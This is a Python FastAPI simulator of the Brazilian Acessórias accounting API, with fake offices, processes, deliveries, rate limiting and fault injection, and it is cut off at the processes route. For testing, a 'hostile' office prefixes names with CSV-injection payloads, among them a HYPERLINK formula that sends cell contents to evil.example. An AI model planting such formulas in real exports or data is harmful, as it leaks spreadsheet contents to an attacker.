"""A fake Acessórias API over loopback, faithful to shared/upstream/acessorias-api.md.

Reproduces: Bearer auth (401), everything a string, zero dates, ISO dates for companies/deliveries and
Brazilian dates for processes, fixed pages (20 companies/processes, 50 deliveries) ignoring size params,
204 for empty results, `{"Erro": …}` inside HTTP 200, a single process as a one-element array, nested
sub-processes, desdobramentos as branch lists, deliveries requiring a deadline window (and `DtLastDH`
of today/yesterday on `ListAll`), `config` as a bare flag, and a sliding-window limit per token that
answers 429 (no Retry-After) or, in "silent" mode, an empty list page. Unfiltered `processes/ListAll`
pages wider than one page shift by ±1 row, so rows come duplicated and skipped, as measured upstream.

Offices (by token): "test-token"/"demo-token" → ~30 empresas, ~211 processos; "big-token" → ~500
empresas, 5,000 processos; "tiny-token" → 8 empresas, 40 processos; "hostile-token" → the tiny office
whose names (empresas, obrigações, responsáveis, process titles) start like spreadsheet formulas.
`/_control/*` moves the world on and injects faults (see docs/acessorias.md).
"""

from __future__ import annotations

import asyncio
import random
import time
from collections import Counter, deque
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from typing import Any

from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, Response

from espelho.clock import SAO_PAULO, now_sao_paulo, today_sao_paulo
from espelho.simulator.deadlines import legal_deadline, previous_business_day

PROCESS_PAGE = 20
COMPANY_PAGE = 20
DELIVERY_PAGE = 50

OFFICES = {"test-token": "small", "demo-token": "small", "big-token": "big", "tiny-token": "tiny",
           "hostile-token": "hostile"}
# The tiny office keeps tests that run at the real pace of a rate limit (minutes per sweep) short.
OFFICE_SIZES = {"tiny": (8, 40), "small": (30, 211), "big": (500, 5000), "hostile": (8, 40)}
# What the hostile office's names start with: CSV injection (OWASP), one of each trigger.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Clique")&"', "+1+1+", "-2+3+", "@SUM(A1:A9)+",
            "\t=1+1+", "\r=1+1+"]

REGIMES = [
    "Simples Nacional - Serviços",
    "Simples Nacional - Comércio e Indústria",
    "Lucro Presumido",
    "Lucro Real",
    "MEI - Sem Funcionário",
]
DEPARTAMENTOS = ["Fiscal", "Contábil", "Pessoal", "Financeiro"]
RESPONSAVEIS = ["Joana Lima", "Rafael Costa", "Gilciane L.", "Pedro A.", "Maria F."]
# The office's users (`/users`): ProcGestor gives one of these ids. The list skips the last one, as the
# real list skips people (reference §4): a client must fetch a referenced id on its own.
USUARIOS = {176900 + i: nome for i, nome in enumerate([*RESPONSAVEIS, "Carlos Menezes", "Beatriz Souza"])}
USUARIOS_FORA_DA_LISTA = {176906}
USER_PAGE = 20
NOMES = [
    "PADARIA",
    "COMERCIAL",
    "TRANSPORTES",
    "CLÍNICA",
    "CONSTRUTORA",
    "AUTO PEÇAS",
    "ÓTICA",
    "MERCADO",
    "RESTAURANTE",
    "TECNOLOGIA",
    "CONSULTORIA",
    "FARMÁCIA",
    "GRÁFICA",
    "AÇOUGUE",
    "ESCOLA",
]
SOBRENOMES = [
    "BOA MASSA",
    "SÃO JOSÉ",
    "ALFA",
    "RIO DOCE",
    "BELA VISTA",
    "NOVA ERA",
    "SOL NASCENTE",
    "PRIMAVERA",
    "MONTE SIÃO",
    "CAPIXABA",
    "ATLÂNTICO",
    "HORIZONTE",
]


# Step templates: ("simples", nome, entrega | None, bloqueante) | ("follow", nome, quando, para)
# | ("desdobramento", pergunta, [(resposta, acao_tipo, acao_nome)]) | ("sub", nome, [children]).
def _reinf() -> tuple[Any, ...]:
    return (
        "sub",
        "Gerar Obrigações - REINF",
        [
            ("simples", "Transmitir EFD-Reinf", ("Obrigação", "EFD-REINF"), "Sim"),
            ("follow", "Avisar o cliente da transmissão", "Disparo manual", "cliente@empresa.com.br"),
        ],
    )


TEMPLATES: dict[str, dict[str, Any]] = {
    "simples": {
        "nome": "Simples Nacional — Mensal",
        "titulo": "Simples Nacional — Mensal",
        "dep": "Fiscal",
        "passos": [
            (
                "simples",
                "Validar importações & conferência de documentos",
                ("Tarefa", "Conferir XMLs de saída"),
                "Sim",
            ),
            (
                "desdobramento",
                "Houve faturamento no mês?",
                [("Sim", "Passo simples", "Conclui o passo"), ("Não", "Sub processo", "Sem movimento")],
            ),
            ("simples", "Apuração e transmissão do PGDAS", ("Obrigação", "DAS"), "Sim"),
            (
                "desdobramento",
                "Houve Fato Gerador para entrega da EFD REINF?",
                [
                    ("SIm", "Sub processo", "Gerar Obrigações - REINF"),
                    ("Não", "Sub processo", "Dispensa de Entrega - EFD REINF"),
                ],
            ),
            _reinf(),
            ("simples", "Enviar guia ao cliente", None, "Não"),
        ],
    },
    "folha": {
        "nome": "Folha de Pagamento",
        "titulo": "Folha de Pagamento {comp}",
        "dep": "Pessoal",
        "passos": [
            ("simples", "Receber eventos da folha", ("Tarefa", "Eventos do mês"), "Sim"),
            ("simples", "Calcular folha", None, "Sim"),
            (
                "sub",
                "Encargos",
                [
                    ("simples", "Transmitir DCTFWeb", ("Obrigação", "DARF - DCTFWEB INSS-IRRF"), "Sim"),
                    ("simples", "Gerar guia do FGTS Digital", ("Obrigação", "FGTS DIGITAL"), "Não"),
                ],
            ),
            ("follow", "Enviar holerites", "Disparo manual", "rh@empresa.com.br"),
        ],
    },
    "fechamento": {
        "nome": "Fechamento Contábil",
        "titulo": "Fechamento Contábil",
        "dep": "Contábil",
        "passos": [
            ("simples", "Conciliação bancária", None, "Sim"),
            ("simples", "Lançamentos do mês", None, "Não"),
            (
                "desdobramento",
                "Empresa obrigada a DIRB?",
                [("Sim", "Passo simples", "Gerar DIRB"), ("Não", "Passo simples", "Conclui o passo")],
            ),
            ("simples", "Balancete", ("Tarefa", "FECHAMENTO CONTÁBIL"), "Sim"),
        ],
    },
    "presumido": {
        "nome": "Lucro Presumido — Apuração",
        "titulo": "Lucro Presumido — Apuração {comp}",
        "dep": "Fiscal",
        "passos": [
            ("simples", "Apurar PIS/COFINS", ("Obrigação", "DARF PIS/COFINS"), "Sim"),
            ("simples", "Transmitir EFD Contribuições", ("Obrigação", "EFD-CONTRIBUICOES"), "Sim"),
            (
                "desdobramento",
                "Houve Faturamento?",
                [
                    ("Sim", "Passo simples", "Apurar IRPJ/CSLL"),
                    ("Não", "Passo simples", "Conclui o passo"),
                    ("Não, Mas houve faturamento no trimestre", "Sub processo", "Apuração trimestral"),
                ],
            ),
            ("follow", "Enviar guias", "Disparo manual", "financeiro@empresa.com.br"),
        ],
    },
}
TEMPLATES_BY_REGIME = {
    "Simples Nacional - Serviços": ["simples", "folha", "fechamento"],
    "Simples Nacional - Comércio e Indústria": ["simples", "fechamento"],
    "Lucro Presumido": ["presumido", "folha", "fechamento"],
    "Lucro Real": ["presumido", "fechamento", "folha"],
    "MEI - Sem Funcionário": ["simples"],
}
# Obligations as (nome, tipo, departamento): each stated once, then listed per regime.
_DAS = ("DAS", "O", "Fiscal")
_EFD_REINF = ("EFD-REINF", "O", "Fiscal")
_FECHAMENTO_CONTABIL = ("FECHAMENTO CONTÁBIL", "T", "Contábil")
_DARF_PIS_COFINS = ("DARF PIS/COFINS", "O", "Fiscal")
_EFD_CONTRIBUICOES = ("EFD-CONTRIBUICOES", "O", "Fiscal")
_DCTFWEB = ("DARF - DCTFWEB INSS-IRRF", "O", "Pessoal")
OBRIGACOES_BY_REGIME = {
    "Simples Nacional - Serviços": [_DAS, _EFD_REINF, _FECHAMENTO_CONTABIL],
    "Simples Nacional - Comércio e Indústria": [_DAS, _FECHAMENTO_CONTABIL],
    "Lucro Presumido": [_DARF_PIS_COFINS, _EFD_CONTRIBUICOES, _DCTFWEB],
    "Lucro Real": [_DARF_PIS_COFINS, _DCTFWEB, _FECHAMENTO_CONTABIL],
    "MEI - Sem Funcionário": [_DAS],
}


def _count_steps(nodes: list[Any]) -> int:
    total = 0
    for node in nodes:
        total += _count_steps(node[2]) if node[0] == "sub" else 1
    return total


def _cnpj(rng: random.Random) -> str:
    base = [rng.randint(0, 9) for _ in range(8)] + [0, 0, 0, 1]
    for weights in ([5, 4, 3, 2, 9, 8, 7, 6, 5, 4, 3, 2], [6, 5, 4, 3, 2, 9, 8, 7, 6, 5, 4, 3, 2]):
        rest = sum(d * w for d, w in zip(base, weights, strict=True)) % 11
        base.append(0 if rest < 2 else 11 - rest)
    d = "".join(map(str, base))
    return f"{d[:2]}.{d[2:5]}.{d[5:8]}/{d[8:12]}-{d[12:]}"


def _br(value: date | None) -> str:
    return value.strftime("%d/%m/%Y") if value else "00/00/0000"


def _br_dt(value: datetime) -> str:
    return value.astimezone(SAO_PAULO).strftime("%d/%m/%Y %H:%M:%S")


def _iso(value: date | None) -> str:
    return value.isoformat() if value else "0000-00-00"


def _iso_dt(value: datetime | None) -> str:
    return value.astimezone(SAO_PAULO).strftime("%Y-%m-%d %H:%M:%S") if value else "0000-00-00 00:00:00"


def _month_start(day: date, back: int = 0) -> date:
    y, m = day.year, day.month - back
    while m < 1:
        m += 12
        y -= 1
    return date(y, m, 1)


def _parse_filter_dt(value: str | None) -> datetime | None:
    """Filters are ISO `YYYY-MM-DD[ HH:MM:SS]` in Brasília time."""
    if not value:
        return None
    for fmt in ("%Y-%m-%d %H:%M:%S", "%Y-%m-%dT%H:%M:%S", "%Y-%m-%d"):
        try:
            return datetime.strptime(value.strip(), fmt).replace(tzinfo=SAO_PAULO)
        except ValueError:
            continue
    return None


def _parse_filter_date(value: str | None) -> date | None:
    parsed = _parse_filter_dt(value)
    return parsed.date() if parsed else None


@dataclass
class Empresa:
    id: int
    cnpj: str
    razao: str
    fantasia: str
    status: str
    regime: str
    uf: str
    desde: date
    cadastro: date
    honorario: str
    last: datetime


@dataclass
class Processo:
    id: int
    empresa: Empresa
    template: str
    titulo: str
    inicio: date
    done: int  # status-bearing steps completed, in depth-first order
    answers: dict[int, int]  # step index of a desdobramento -> chosen alternative
    last: datetime
    pct_style: str = "dec"  # "dec" → "45.00", "pct" → "45%" (both seen upstream)
    suspenso: bool = False
    excluido: bool = False
    concluido_em: date | None = None

    @property
    def total(self) -> int:
        return _count_steps(TEMPLATES[self.template]["passos"])


@dataclass
class Entrega:
    ent_id: int
    empresa: Empresa
    nome: str
    tipo: str
    dep: str
    competencia: date
    prazo: date
    atraso: date
    entrega: date | None
    finalizacao: datetime | None
    status: str
    last: datetime
    responsavel: str
    config_id: int


@dataclass
class Office:
    empresas: list[Empresa] = field(default_factory=list)
    processos: dict[int, Processo] = field(default_factory=dict)
    entregas: list[Entrega] = field(default_factory=list)
    next_proc_id: int = 0
    next_ent_id: int = 0
    rng: random.Random = field(default_factory=random.Random)


def _now() -> datetime:
    return now_sao_paulo().replace(microsecond=0)


def build_office(kind: str, seed: int) -> Office:
    rng = random.Random(f"{seed}:{kind}")
    n_empresas, n_processos = OFFICE_SIZES[kind]
    now = _now()
    today = now.date()
    office = Office(rng=random.Random(f"{seed}:{kind}:advance"))
    for i in range(n_empresas):
        regime = rng.choice(REGIMES)
        nome = f"{rng.choice(NOMES)} {rng.choice(SOBRENOMES)} {i + 1} LTDA"
        office.empresas.append(
            Empresa(
                id=100 + i,
                cnpj=_cnpj(rng),
                razao=nome,
                fantasia=rng.choice(["", nome.split()[0].title()]),
                status="Ativa" if rng.random() > 0.08 else rng.choice(["Inativa", "Bloqueada"]),
                regime=regime,
                uf=rng.choice(["ES", "SP", "MG", "RJ"]),
                desde=date(rng.randint(2015, 2024), rng.randint(1, 12), 1),
                cadastro=date(rng.randint(2015, 2024), rng.randint(1, 12), rng.randint(1, 28)),
                honorario=f"{rng.randint(3, 30) * 50:.2f}",
                last=now - timedelta(days=rng.randint(10, 400)),
            )
        )
    # Processes open on the first days of the last four months, ids sequential in time.
    drafts: list[tuple[date, Empresa, str]] = []
    for _ in range(n_processos):
        empresa = rng.choice(office.empresas)
        template = rng.choice(TEMPLATES_BY_REGIME[empresa.regime])
        back = rng.choice([0, 0, 1, 1, 2, 3])
        month = _month_start(today, back)
        start = month + timedelta(days=rng.randint(0, 4))
        drafts.append((min(start, today), empresa, template))
    drafts.sort(key=lambda d: d[0])
    proc_id = 6001
    for inicio, empresa, template in drafts:
        if rng.random() < 0.02:
            proc_id += 1  # a gap: ids that never existed (or were purged) answer 204
        proc = _new_processo(rng, proc_id, empresa, template, inicio, today, now)
        if rng.random() < 0.015:
            proc.excluido = True
        office.processos[proc_id] = proc
        proc_id += 1
    office.next_proc_id = proc_id
    ent_id = 880001
    for empresa in office.empresas:
        # The current competência (due next month) and three before it: whatever the day, some are due
        # in the coming weeks, some were delivered and a few are late, as in a real office.
        for back in range(4):
            comp = _month_start(today, back)
            for nome, tipo, dep in OBRIGACOES_BY_REGIME[empresa.regime]:
                office.entregas.append(_seed_entrega(rng, ent_id, empresa, nome, tipo, dep, comp, today))
                ent_id += 1
    office.next_ent_id = ent_id
    if kind == "hostile":
        _inject_formulas(office)
    return office


def _inject_formulas(office: Office) -> None:
    """Every name of the office starts like a spreadsheet formula (what an upstream attacker could type)."""
    def hostile(index: int, name: str) -> str:
        return FORMULAS[index % len(FORMULAS)] + name

    for i, empresa in enumerate(office.empresas):
        empresa.razao = hostile(i, empresa.razao)
        empresa.fantasia = hostile(i + 1, empresa.fantasia or "Fantasia")
    for i, proc in enumerate(office.processos.values()):
        proc.titulo = hostile(i, "Título")
    for ent in office.entregas:
        ent.nome = hostile(ent.config_id, ent.nome)  # one name per obrigação
        ent.responsavel = hostile(RESPONSAVEIS.index(ent.responsavel), ent.responsavel)


def delivery_status(entrega: date | None, prazo: date, atraso: date, today: date) -> str:
    """The office-visible label Acessórias shows for a delivery (see the upstream doc, §7)."""
    if entrega is None:
        return "Atrasada!" if atraso < today else "Pendente"
    if entrega < prazo:
        return "Ent. antecipada"
    return "Ent. PzTéc" if entrega <= atraso else "Ent. atrasada"


def _seed_entrega(
    rng: random.Random,
    ent_id: int,
    empresa: Empresa,
    nome: str,
    tipo: str,
    dep: str,
    competencia: date,
    today: date,
) -> Entrega:
    # EntDtAtraso is the legal deadline; EntDtPrazo the office's own, a few business days earlier.
    atraso = legal_deadline(nome, competencia)
    prazo = previous_business_day(atraso - timedelta(days=rng.choice([0, 2, 5])))
    if prazo >= today:
        delivered = prazo <= today + timedelta(days=10) and rng.random() < 0.25  # some finish early
    else:
        delivered = rng.random() < 0.85  # the rest of the past is late
    entrega = None
    if delivered:
        entrega = min(prazo + timedelta(days=rng.randint(-6, 3)), today)
    last_day = entrega or (prazo - timedelta(days=20))
    last = datetime.combine(
        min(last_day, today - timedelta(days=2)), datetime.min.time(), SAO_PAULO
    ) + timedelta(hours=rng.randint(8, 18))
    return Entrega(
        ent_id=ent_id,
        empresa=empresa,
        nome=nome,
        tipo=tipo,
        dep=dep,
        competencia=competencia,
        prazo=prazo,
        atraso=atraso,
        entrega=entrega,
        finalizacao=(last if entrega else None),
        status=delivery_status(entrega, prazo, atraso, today),
        last=last,
        responsavel=rng.choice(RESPONSAVEIS),
        config_id=200 + len(nome),
    )


def _new_processo(
    rng: random.Random,
    proc_id: int,
    empresa: Empresa,
    template: str,
    inicio: date,
    today: date,
    now: datetime,
) -> Processo:
    steps = TEMPLATES[template]["passos"]
    total = _count_steps(steps)
    age = (today - inicio).days
    done = total if age > 45 and rng.random() < 0.9 else min(total, rng.randint(0, total) if age > 2 else 0)
    answers = {i: rng.randint(0, 1) for i in range(total)}
    last_day = min(inicio + timedelta(days=min(age, rng.randint(0, 25))), today)
    last = datetime.combine(last_day, datetime.min.time(), SAO_PAULO) + timedelta(
        hours=rng.randint(7, 19), minutes=rng.randint(0, 59), seconds=rng.randint(0, 59)
    )
    # Nothing in the seeded world changed in the last two hours (deltas start empty).
    last = min(last, now - timedelta(hours=2))
    proc = Processo(
        id=proc_id,
        empresa=empresa,
        template=template,
        titulo="",
        inicio=inicio,
        done=done,
        answers=answers,
        last=last,
        pct_style="pct" if rng.random() < 0.1 else "dec",
        suspenso=done < total and rng.random() < 0.03,
    )
    comp = _month_start(inicio, 1)  # monthly routines close the previous month
    proc.titulo = TEMPLATES[template]["titulo"].format(comp=f"{comp.month:02d}/{comp.year}")
    if done >= total:
        proc.concluido_em = min(today, inicio + timedelta(days=rng.randint(3, 25)))
    return proc


def _render_steps(proc: Processo, nodes: list[Any], counter: list[int]) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for node in nodes:
        kind = node[0]
        if kind == "sub":
            out.append(
                {"Tipo": "Sub processo", "Nome": node[1], "ProcPassos": _render_steps(proc, node[2], counter)}
            )
            continue
        index = counter[0]
        counter[0] += 1
        status = "OK" if index < proc.done else "Pendente"
        if kind == "simples":
            entrega = node[2]
            automacao_entrega: Any = (
                []
                if entrega is None
                else {
                    "Tipo": entrega[0],
                    "Nome": entrega[1],
                    "Criacao": "no dia do início/autorização do processo",
                    "Previsao": "30 min",
                    "Responsavel": RESPONSAVEIS[proc.id % len(RESPONSAVEIS)],
                    "Prazo": _br(proc.inicio + timedelta(days=5 + index * 2)),
                }
            )
            out.append(
                {
                    "Tipo": "Passo simples",
                    "Status": status,
                    "Nome": node[1],
                    "Automacao": {"Entrega": automacao_entrega, "Bloqueante": node[3]},
                }
            )
        elif kind == "follow":
            out.append(
                {
                    "Tipo": "Follow up",
                    "Status": status,
                    "Nome": node[1],
                    "Automacao": {"Quando": node[2], "Para": node[3]},
                }
            )
        else:  # desdobramento: answered questions list only the branch taken
            alternatives = [{"Nome": a, "Acao": {"Tipo": t, "Nome": n}} for a, t, n in node[2]]
            if status == "OK":
                alternatives = [alternatives[proc.answers.get(index, 0) % len(alternatives)]]
            out.append(
                {"Tipo": "Desdobramento", "Status": status, "Nome": node[1], "Automacao": alternatives}
            )
    return out


def _status_text(proc: Processo) -> str:
    if proc.excluido:
        return "Excluído"
    if proc.done >= proc.total:
        return "Concluído"
    return "Suspenso" if proc.suspenso else "Em andamento"


STATUS_LETTERS = {
    "A": "Em andamento",
    "C": "Concluído",
    "S": "Suspenso",
    "X": "Excluído",
    "D": "Desistência",
    "P": "Agendado",
    "W": "Aguardando aprovação",
}


def process_header(proc: Processo, today: date) -> dict[str, Any]:
    total = proc.total
    pct = 100.0 * proc.done / total if total else 100.0
    conclusao = proc.concluido_em or (proc.inicio + timedelta(days=20))
    dias = ((proc.concluido_em or today) - proc.inicio).days
    template = TEMPLATES[proc.template]
    return {
        "ProcID": str(proc.id),
        "ProcNome": template["nome"],
        "ProcTitulo": proc.titulo,
        "ProcCriador": RESPONSAVEIS[proc.id % 3],
        "ProcGestor": str(176900 + proc.id % len(USUARIOS)),
        "ProcObservacoes": "",
        "ProcInicio": _br(proc.inicio),
        "ProcDiasCorridos": str(max(dias, 0)),
        "ProcConclusao": _br(conclusao),
        "ProcDepartamento": template["dep"],
        "ProcStatus": _status_text(proc),
        "ProcPorcentagem": f"{pct:.0f}%" if proc.pct_style == "pct" else f"{pct:.2f}",
        "DtLastDH": _br_dt(proc.last),
        "EmpNome": proc.empresa.razao,
        "EmpID": str(proc.empresa.id),
        "EmpCNPJ": proc.empresa.cnpj,
    }


def obrigacoes_json(emp: Empresa, entregas: list[Entrega], today: date) -> list[dict[str, Any]]:
    """The company's `Obrigacoes[]`: per obligation name, Acessórias' own counters (strings), counted
    from its deliveries as of today; one obligation inactive in this company, as real lists have."""
    by_name: dict[str, list[Entrega]] = {}
    for ent in entregas:
        by_name.setdefault(ent.nome, []).append(ent)
    out = []
    for nome, ents in sorted(by_name.items()):
        pending = [e for e in ents if e.entrega is None]
        out.append({
            "Nome": nome,
            "Status": "Ativa",
            "Entregues": str(len(ents) - len(pending)),
            "Atrasadas": str(sum(e.atraso < today for e in pending)),
            "Proximos30D": str(sum(today <= e.prazo <= today + timedelta(days=30) for e in pending)),
            "Futuras30+": str(sum(e.prazo > today + timedelta(days=30) for e in pending)),
        })
    if emp.id % 4 == 0:
        out.append({"Nome": "EFD-REINF", "Status": "Inativa nessa empresa", "Entregues": "4",
                    "Atrasadas": "0", "Proximos30D": "0", "Futuras30+": "0"})
    return out


def company_json(emp: Empresa, flags: set[str],
                 obrigacoes: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    out: dict[str, Any] = {
        "ID": str(emp.id),
        "Identificador": emp.cnpj,
        "Razao": emp.razao,
        "Fantasia": emp.fantasia,
        "Status": emp.status,
        "Telefone": "2799990000",
        "UF": emp.uf,
        "ClienteDesde": _iso(emp.desde),
        "ClienteAte": "0000-00-00",
        "DataDoCadastro": _iso(emp.cadastro),
        "Honorario": emp.honorario,
        "DtLastDH": _iso_dt(emp.last),
    }
    if "registrationData" in flags:
        out["Regime"] = emp.regime
        out["GrupoDeEmpresas"] = ""
    if obrigacoes is not None:
        out["Obrigacoes"] = obrigacoes
    return out


def user_json(user_id: int, nome: str) -> dict[str, Any]:
    return {
        "id": str(user_id),
        "nome": nome,
        "email": f"usuario{user_id}@escritorio.example",
        "status": "Ativo",
    }


def delivery_json(ent: Entrega, with_config: bool) -> dict[str, Any]:
    out: dict[str, Any] = {
        "Nome": ent.nome,
        "EntCompetencia": _iso(ent.competencia),
        "EntDtPrazo": _iso(ent.prazo),
        "EntDtAtraso": _iso(ent.atraso),
        "EntDtEntrega": _iso(ent.entrega),
        "EntDtFinalizacao": _iso_dt(ent.finalizacao) if ent.finalizacao else None,
        "EntMulta": "S" if ent.tipo == "O" else "N",
        "Status": ent.status,
        "EntGuiaLida": "Guia já acessada/lida" if ent.entrega else "Guia ainda não acessada/lida",
        "EntLastDH": _iso_dt(ent.last),
        "RespEntrega": ent.responsavel if ent.entrega else "",
    }
    if ent.entrega:
        out["Anexos"] = [{"Url": f"https://app.acessorias.com/getguiaapi.php?AnxKey=SIM{ent.ent_id}"}]
    if with_config:
        out["Config"] = {
            "EntID": str(ent.ent_id),
            "Tipo": ent.tipo,
            "ID": str(ent.config_id),
            "DptoID": str(DEPARTAMENTOS.index(ent.dep) + 1),
            "DptoNome": ent.dep,
            "CriadorID": None,
            "RespPrazo": ent.responsavel,
            "RespPrazoID": "42",
            "RespEntrega": ent.responsavel,
            "RespEntregaID": "42",
        }
    return out


class Simulator:
    """Mutable world + faults + counters. Served on one asyncio loop, so no locking is needed."""

    def __init__(self, seed: int, latency_ms: float, rate_limit: int) -> None:
        self.seed = seed
        self.latency_s = latency_ms / 1000.0
        self.default_rate_limit = rate_limit
        self.reset()

    def reset(self) -> None:
        self.offices: dict[str, Office] = {}
        self.rate_limit = self.default_rate_limit
        self.throttle_mode = "429"  # or "silent": list pages answer 200 [] instead of 429
        self.window: dict[str, deque[float]] = {}
        self.faults: dict[str, Any] = {
            "silent_empty_pages": 0,
            "http_500": 0,
            "fail_detail_ids": [],
            "silent_empty_on": None,
            "unstable_pages": True,
        }
        self.reset_stats()

    def reset_stats(self) -> None:
        self.stats: Counter[str] = Counter()
        self.detail_ids: list[int] = []
        self.delivery_cnpjs: list[str] = []

    def office(self, kind: str) -> Office:
        if kind not in self.offices:
            self.offices[kind] = build_office(kind, self.seed)
        return self.offices[kind]

    def throttled(self, token: str) -> bool:
        """Sliding 60-second window per token; refused requests do not take a slot."""
        window = self.window.setdefault(token, deque())
        now = time.monotonic()
        while window and window[0] <= now - 60.0:
            window.popleft()
        if len(window) >= self.rate_limit:
            return True
        window.append(now)
        return False

    # --- control -----------------------------------------------------------------------------
    def advance(
        self,
        kind: str,
        steps_completed: int = 0,
        processes_created: int = 0,
        deliveries_changed: int = 0,
        processes_deleted: int = 0,
        companies_created: int = 0,
        deliveries_overdue: int = 0,
        months_opened: int = 0,
    ) -> dict[str, list[int]]:
        office = self.office(kind)
        rng = office.rng
        now = _now()
        today = now.date()
        changed: dict[str, list[int]] = {
            "steps_completed": [],
            "processes_created": [],
            "deliveries_changed": [],
            "processes_deleted": [],
            "deliveries_overdue": [],
        }
        open_ids = sorted(p.id for p in office.processos.values() if not p.excluido and p.done < p.total)
        for proc_id in rng.sample(open_ids, min(steps_completed, len(open_ids))):
            proc = office.processos[proc_id]
            proc.done += 1
            proc.last = now
            if proc.done >= proc.total:
                proc.concluido_em = today
            changed["steps_completed"].append(proc_id)
        new_companies: list[Empresa] = []
        for _ in range(companies_created):
            regime = rng.choice(REGIMES)
            nome = f"{rng.choice(NOMES)} {rng.choice(SOBRENOMES)} {len(office.empresas) + 1} LTDA"
            empresa = Empresa(
                id=100 + len(office.empresas),
                cnpj=_cnpj(rng),
                razao=nome,
                fantasia="",
                status="Ativa",
                regime=regime,
                uf="ES",
                desde=today,
                cadastro=today,
                honorario="500.00",
                last=now,
            )
            office.empresas.append(empresa)
            new_companies.append(empresa)
            changed.setdefault("companies_created", []).append(empresa.id)
        # A new company starts with one process (so it shows up in the process delta).
        for index in range(processes_created + len(new_companies)):
            empresa = (
                new_companies[index - processes_created]
                if index >= processes_created
                else rng.choice(office.empresas)
            )
            template = rng.choice(TEMPLATES_BY_REGIME[empresa.regime])
            proc = _new_processo(rng, office.next_proc_id, empresa, template, today, today, now)
            proc.done, proc.concluido_em, proc.last = 0, None, now
            office.processos[proc.id] = proc
            changed["processes_created"].append(proc.id)
            office.next_proc_id += 1
        alive = sorted(p.id for p in office.processos.values() if not p.excluido)
        for proc_id in rng.sample(alive, min(processes_deleted, len(alive))):
            office.processos[proc_id].excluido = True
            office.processos[proc_id].last = now
            changed["processes_deleted"].append(proc_id)
        pending = [e for e in office.entregas if e.entrega is None]
        for ent in rng.sample(pending, min(deliveries_changed, len(pending))):
            ent.entrega = today
            ent.finalizacao = now
            ent.status = delivery_status(today, ent.prazo, ent.atraso, today)
            ent.last = now
            changed["deliveries_changed"].append(ent.ent_id)
        # A new month (the benchmark's year of months): every company's monthly processes, one per template
        # of its regime, and its obligations of the competência just begun, all changed now.
        for _ in range(months_opened):
            competencia = _month_start(today)
            for empresa in office.empresas:
                for template in TEMPLATES_BY_REGIME[empresa.regime]:
                    proc = _new_processo(rng, office.next_proc_id, empresa, template, today, today, now)
                    proc.done, proc.concluido_em, proc.last = 0, None, now
                    office.processos[proc.id] = proc
                    changed["processes_created"].append(proc.id)
                    office.next_proc_id += 1
                for nome, tipo, dep in OBRIGACOES_BY_REGIME[empresa.regime]:
                    ent = _seed_entrega(rng, office.next_ent_id, empresa, nome, tipo, dep, competencia, today)
                    ent.last = now
                    office.entregas.append(ent)
                    changed.setdefault("deliveries_created", []).append(ent.ent_id)
                    office.next_ent_id += 1
        # Pending deliveries the office now shows as late (as if their legal deadline had passed).
        pending = [e for e in office.entregas if e.entrega is None and e.status != "Atrasada!"]
        for ent in rng.sample(pending, min(deliveries_overdue, len(pending))):
            ent.status = "Atrasada!"
            ent.last = now
            changed["deliveries_overdue"].append(ent.ent_id)
        return changed


def _page(request: Request) -> int:
    try:
        return max(1, int(request.query_params.get("Pagina", "1")))
    except ValueError:
        return 1


def create_app(*, seed: int = 42, latency_ms: float = 0.0, rate_limit: int = 100) -> FastAPI:
    sim = Simulator(seed, latency_ms, rate_limit)
    app = FastAPI(title="Acessórias simulator")
    app.state.sim = sim

    def _office_of(request: Request) -> tuple[str, str] | None:
        auth = request.headers.get("Authorization", "")
        token = auth[7:].strip() if auth.startswith("Bearer ") else ""
        kind = OFFICES.get(token)
        return (token, kind) if kind else None

    async def _gate(request: Request, kind_of_call: str, is_list: bool) -> tuple[Response | None, str]:
        """Auth, throttling, latency and injected faults, shared by every upstream route."""
        sim.stats["total"] += 1
        who = _office_of(request)
        # The window counts a request when it arrives; the latency is the time spent answering it.
        throttled = sim.throttled(who[0]) if who else False
        if sim.latency_s:
            await asyncio.sleep(sim.latency_s)
        if who is None:
            sim.stats["unauthorized"] += 1
            return JSONResponse({"Erro": "Token inválido ou ausente"}, status_code=401), ""
        token, kind = who
        if throttled:
            sim.stats["throttled"] += 1
            if sim.throttle_mode == "silent" and is_list:
                return JSONResponse([]), kind
            return JSONResponse({"message": "Too Many Requests"}, status_code=429), kind
        if sim.faults["http_500"] > 0:
            sim.faults["http_500"] -= 1
            sim.stats["http_500"] += 1
            return JSONResponse({"message": "Internal Server Error"}, status_code=500), kind
        target = sim.faults.get("silent_empty_on")
        if (
            is_list
            and sim.faults["silent_empty_pages"] > 0
            and (not target or kind_of_call.startswith(target))
        ):
            sim.faults["silent_empty_pages"] -= 1
            sim.stats["silent_empty"] += 1
            return JSONResponse([]), kind
        sim.stats[kind_of_call] += 1
        return None, kind

    # --- companies ------------------------------------------------------------------------------
    @app.get("/companies/{ident}")
    @app.get("/companies/{ident}/")
    async def companies(ident: str, request: Request) -> Response:
        is_list = ident == "ListAll"
        refused, kind = await _gate(request, "companies_list" if is_list else "company", is_list)
        if refused:
            return refused
        office = sim.office(kind)
        flags = set(request.query_params.keys())
        today = today_sao_paulo()

        def obrigacoes(chunk: list[Empresa]) -> dict[int, list[dict[str, Any]]]:
            ids = {e.id for e in chunk}
            entregas: dict[int, list[Entrega]] = {i: [] for i in ids}
            for ent in office.entregas:
                if ent.empresa.id in ids:
                    entregas[ent.empresa.id].append(ent)
            return {e.id: obrigacoes_json(e, entregas[e.id], today) for e in chunk}

        if not is_list:
            digits = "".join(ch for ch in ident if ch.isdigit())
            for emp in office.empresas:
                if "".join(ch for ch in emp.cnpj if ch.isdigit()) == digits:
                    extra = obrigacoes([emp])[emp.id] if "obligations" in flags else None
                    return JSONResponse(company_json(emp, flags, extra))
            return JSONResponse({"Erro": "Empresa não encontrada"})
        rows = office.empresas
        ativa = request.query_params.get("ativa")
        if ativa in ("S", "N"):
            rows = [e for e in rows if (e.status == "Ativa") == (ativa == "S")]
        page = _page(request)
        chunk = rows[(page - 1) * COMPANY_PAGE : page * COMPANY_PAGE]
        # On ListAll, Obrigacoes[] comes even without the flag (reference §4.1).
        counters = obrigacoes(chunk)
        return JSONResponse([company_json(e, flags, counters[e.id]) for e in chunk])  # past the end: []

    # --- processes ------------------------------------------------------------------------------
    @app.get("/processes/{ident}")
